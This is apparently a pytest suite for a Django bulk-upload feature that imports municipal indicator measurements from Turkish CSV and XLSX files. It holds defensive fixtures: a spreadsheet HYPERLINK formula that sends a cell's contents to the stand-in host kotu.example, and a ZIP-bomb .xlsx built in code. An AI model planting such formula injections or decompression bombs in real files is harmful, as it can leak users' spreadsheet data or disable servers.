"""Bulk upload of measurements: the dry run's verdict per row, all or nothing, hostile files, and
the pages (upload → preview → «İçe aktar», the template download)."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils.translation import gettext as _
from openpyxl import Workbook, load_workbook

from ortakakil.core.models import Role
from ortakakil.monitoring import bulk, services
from ortakakil.monitoring.models import Measurement

pytestmark = pytest.mark.django_db

HEADER = "Gösterge kodu;Dönem;Değer;Not;Kanıt bağlantısı;Onaya gönder\n"


def csv(*lines: str) -> bytes:
    return (HEADER + "".join(line + "\n" for line in lines)).encode("utf-8")


def upload(actor, plan, content, *, name="degerler.csv", dry_run=True):
    return bulk.measurements_upload(actor=actor, plan=plan, name=name, content=content, dry_run=dry_run)


def errors(report):
    return {row.line: row.errors for row in report.rows if row.errors}


def test_turkish_numbers_are_read_and_others_refused():
    assert bulk.parse_number("40,2") == 40.2
    assert bulk.parse_number("1.234,5") == 1234.5
    assert bulk.parse_number("1.234.567") == 1234567
    assert bulk.parse_number("40.2") == 40.2
    assert bulk.parse_number("-3") == -3
    assert bulk.parse_number("'-3") == -3
    for text in ("", "kırk", "NaN", "inf", "1e999", "4O", "1,2,3", "=1+1"):
        assert bulk.parse_number(text) is None, text


def test_dry_run_tells_new_from_correction_and_writes_nothing(transport_manager, indicator):
    services.measurement_enter(actor=transport_manager, indicator=indicator, period="2025", data={"value": 38})
    report = upload(
        transport_manager,
        indicator.goal.aim.plan,
        csv(
            "PG1.1.1;2025-H1;40,2;Sayım;https://ulasim.example.org/sayim.pdf;evet",
            "pg1.1.2;2025;12;;;hayır",
            "PG1.1.1;2025;39,5;;;",
        ),
    )
    assert report.ok
    assert [(row.line, row.action, row.value, row.submit) for row in report.rows] == [
        (2, "new", 40.2, True),
        (3, "new", 12.0, False),
        (4, "correction", 39.5, False),
    ]
    assert (report.new, report.corrections, report.submitted) == (2, 1, 1)
    assert Measurement.objects.count() == 1
    assert Measurement.objects.get().value == 38


def test_the_upload_writes_through_the_services_and_submits_when_asked(transport_manager, indicator):
    report = upload(
        transport_manager,
        indicator.goal.aim.plan,
        csv("PG1.1.1;2025-H1;40,2;Sayım;https://ulasim.example.org/s.pdf;evet", "PG1.1.2;2025;12;;;"),
        dry_run=False,
    )
    assert report.ok and report.created == 2
    first = Measurement.objects.get(indicator=indicator, period="2025-H1")
    assert (first.value, first.note, first.state, first.entered_by) == (40.2, "Sayım", "submitted", transport_manager)
    assert first.evidence_link == "https://ulasim.example.org/s.pdf"
    assert Measurement.objects.get(indicator__code="PG1.1.2").state == "draft"
    assert first.history.count() == 2  # entered, then submitted: audited like the web form


def test_every_bad_row_is_refused_with_its_line_and_nothing_is_written(transport_manager, strategist, indicator):
    plan = indicator.goal.aim.plan
    locked = services.measurement_enter(actor=transport_manager, indicator=indicator, period="2025", data={"value": 39})
    services.measurement_submit(actor=transport_manager, measurement=locked)
    services.measurement_approve(actor=strategist, measurement=locked)
    before = list(Measurement.objects.values_list("pk", "value", "state"))
    report = upload(
        transport_manager,
        plan,
        csv(
            "PG1.1.1;2025-H1;40;;;",  # 2: fine on its own
            "PG1.1.1;2024;40;;;",  # 3: no target in 2024
            "PG1.1.1;2025-H2;40;;;",  # 4: not a period
            "PG1.1.1;2025;41;;;",  # 5: approved and locked
            "PG2.1.1;2025;12;;;",  # 6: another unit's indicator
            "PG1.1.2;2025;on iki;;;",  # 7: not a number
            "PG9.9.9;2025;1;;;",  # 8: unknown code
            "PG1.1.2;2026;1;;ftp://x;belki",  # 9: bad link, bad yes/no
            "PG1.1.1;2025-H1;42;;;",  # 10: same indicator and period as line 2
        ),
        dry_run=False,
    )
    assert not report.ok
    found = errors(report)
    assert sorted(found) == [3, 4, 5, 6, 7, 8, 9, 10]
    assert found[3] == [
        _("the indicator %(code)s has no target for the year of %(period)s") % {"code": "PG1.1.1", "period": "2024"}
    ]
    assert found[4] == [_("“%(period)s” is not a period; write 2025-H1 or 2025") % {"period": "2025-H2"}]
    assert found[5] == [
        _("the value of %(code)s in %(period)s is approved and locked") % {"code": "PG1.1.1", "period": "2025"}
    ]
    assert found[6] == [_("the indicator %(code)s belongs to another unit") % {"code": "PG2.1.1"}]
    assert found[7] == [_("“%(value)s” is not a number") % {"value": "on iki"}]
    assert found[8] == [_("unknown indicator code “%(code)s” in the approved plan") % {"code": "PG9.9.9"}]
    assert len(found[9]) == 2
    assert found[10] == [
        _("the value of %(code)s in %(period)s is already on line %(line)d")
        % {"code": "PG1.1.1", "period": "2025-H1", "line": 2}
    ]
    assert list(Measurement.objects.values_list("pk", "value", "state")) == before


def test_a_late_refusal_by_the_services_rolls_back_every_row(transport_manager, indicator, monkeypatch):
    """The dry run passed, but the services refuse the last row while writing: nothing stays."""
    real = services.measurement_enter

    def refuse_the_second(**kwargs):
        if kwargs["period"] == "2026":
            raise ValidationError("Bu değer onaylanmış ve kilitlenmiştir.")
        return real(**kwargs)

    monkeypatch.setattr(services, "measurement_enter", refuse_the_second)
    report = upload(
        transport_manager, indicator.goal.aim.plan, csv("PG1.1.1;2025;40;;;", "PG1.1.1;2026;41;;;"), dry_run=False
    )
    assert errors(report) == {3: ["Bu değer onaylanmış ve kilitlenmiştir."]}
    assert not Measurement.objects.exists()


def test_a_formula_in_a_note_is_stored_as_text(transport_manager, indicator):
    formula = '=HYPERLINK("http://kotu.example/?"&A1;"tıkla")'
    content = csv(f'PG1.1.1;2025;40;"{formula.replace(chr(34), chr(34) * 2)}";;')
    report = upload(transport_manager, indicator.goal.aim.plan, content, dry_run=False)
    assert report.ok
    assert Measurement.objects.get().note == formula


def test_a_formula_typed_as_text_in_an_xlsx_note_is_stored_as_typed(transport_manager, indicator):
    book = Workbook()
    sheet = book.active
    sheet.append(["Gösterge kodu", "Dönem", "Değer", "Not"])
    sheet.append(["PG1.1.1", "2025", 40.5, None])
    cell = sheet.cell(row=2, column=4)
    cell.value = '=HYPERLINK("http://kotu.example";"tıkla")'
    cell.data_type = "s"  # a text cell that merely starts with "=": never evaluated
    buffer = io.BytesIO()
    book.save(buffer)
    report = upload(transport_manager, indicator.goal.aim.plan, buffer.getvalue(), name="d.xlsx", dry_run=False)
    assert report.ok, errors(report)
    stored = Measurement.objects.get()
    assert (stored.value, stored.note) == (40.5, '=HYPERLINK("http://kotu.example";"tıkla")')


def test_a_zip_bomb_xlsx_is_refused_before_parsing(transport_manager, indicator, monkeypatch):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * (bulk.MAX_XLSX_UNPACKED_BYTES + 1))
    content = buffer.getvalue()
    assert len(content) < bulk.MAX_BYTES  # small on disk, huge unpacked

    def never(*args, **kwargs):
        raise AssertionError("a ZIP bomb reached openpyxl")

    monkeypatch.setattr("openpyxl.load_workbook", never)
    with pytest.raises(bulk.ImportFileError, match="20 MB"):
        upload(transport_manager, indicator.goal.aim.plan, content, name="bomba.xlsx")
    assert not Measurement.objects.exists()


def test_too_many_rows_a_big_file_and_a_disguised_file_are_refused(transport_manager, indicator):
    plan = indicator.goal.aim.plan
    many = csv(*["PG1.1.1;2025;40;;;"] * 6000)
    assert len(many) < bulk.MAX_BYTES
    with pytest.raises(bulk.ImportFileError, match="5000"):
        upload(transport_manager, plan, many)
    with pytest.raises(bulk.ImportFileError, match="2 MB"):
        upload(transport_manager, plan, csv("PG1.1.1;2025;40;" + "x" * bulk.MAX_BYTES + ";;"))
    with pytest.raises(bulk.ImportFileError, match=_("This is not a readable XLSX file.")):
        upload(transport_manager, plan, csv("PG1.1.1;2025;40;;;"), name="degerler.xlsx")
    with pytest.raises(bulk.ImportFileError, match=r"UTF-8"):
        upload(transport_manager, plan, b"PK\x03\x04" + b"\0" * 100, name="degerler.csv")
    with pytest.raises(bulk.ImportFileError, match="Değer"):
        upload(transport_manager, plan, "Gösterge kodu;Dönem\nPG1.1.1;2025\n".encode())
    assert not Measurement.objects.exists()


def test_values_go_only_into_an_approved_plan(draft_plan, strategist):
    assert draft_plan.status == "draft"
    with pytest.raises(ValidationError):
        upload(strategist, draft_plan, csv("PG1.1.1;2025;40;;;"), dry_run=False)
    assert not Measurement.objects.exists()


# --- the pages -------------------------------------------------------------------------------


def _page(process):
    return f"/manage/processes/{process.slug}/monitoring/upload/"


def test_upload_preview_then_import_on_the_page(client, transport_manager, indicator):
    process = indicator.goal.aim.plan.process
    client.force_login(transport_manager)
    assert client.get(_page(process)).status_code == 200
    file = SimpleUploadedFile("d.csv", csv("PG1.1.1;2025-H1;40,2;;;", "PG2.1.1;2025;1;;;"))
    refused = client.post(_page(process), {"file": file})
    assert refused.status_code == 400
    assert _("the indicator %(code)s belongs to another unit") % {"code": "PG2.1.1"} in refused.content.decode()
    assert not Measurement.objects.exists()
    file = SimpleUploadedFile("d.csv", csv("PG1.1.1;2025-H1;40,2;;;evet"))
    preview = client.post(_page(process), {"file": file})
    assert preview.status_code == 200
    page = preview.content.decode()
    assert _("New value") in page and _("Import") in page
    assert not Measurement.objects.exists()
    done = client.post(_page(process), {"step": "commit"})
    assert done.status_code == 302
    stored = Measurement.objects.get()
    assert (stored.value, stored.state) == (40.2, "submitted")
    again = client.post(_page(process), {"step": "commit"})  # the kept file is gone after the import
    assert again.status_code == 400 and Measurement.objects.count() == 1


def test_only_those_who_enter_values_reach_the_page(client, make_user, indicator):
    process = indicator.goal.aim.plan.process
    client.force_login(make_user(Role.FACILITATOR, username="kolay"))
    assert client.get(_page(process)).status_code == 403
    client.force_login(make_user(Role.CITIZEN, username="vat"))
    assert client.get(_page(process)).status_code == 403


def test_the_template_lists_the_users_indicators_for_the_period(client, transport_manager, indicator):
    process = indicator.goal.aim.plan.process
    services.measurement_enter(actor=transport_manager, indicator=indicator, period="2026-H1", data={"value": -3})
    client.force_login(transport_manager)
    base = f"/manage/processes/{process.slug}/monitoring/upload/template"
    response = client.get(base + ".csv", {"period": "2026-H1"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    lines = response.content.decode("utf-8-sig").splitlines()
    assert lines == [
        "Gösterge kodu,Dönem,Değer,Not,Kanıt bağlantısı,Onaya gönder",
        "PG1.1.1,2026-H1,'-3.0,,,hayır",
        "PG1.1.2,2026-H1,,,,hayır",
    ]
    # The downloaded file goes back in as it came out (the apostrophe keeps «-3» a number).
    report = upload(transport_manager, indicator.goal.aim.plan, response.content)
    assert errors(report) == {3: [_("the value is missing")]} and report.rows[0].action == "correction"
    xlsx = client.get(base + ".xlsx", {"period": "2026"})
    rows = list(load_workbook(io.BytesIO(xlsx.content)).active.iter_rows(values_only=True))
    assert [row[:2] for row in rows] == [("Gösterge kodu", "Dönem"), ("PG1.1.1", "2026"), ("PG1.1.2", "2026")]
    assert client.get(base + ".csv", {"period": "2031"}).status_code == 404
    assert client.get(base + ".pdf", {"period": "2026"}).status_code == 404
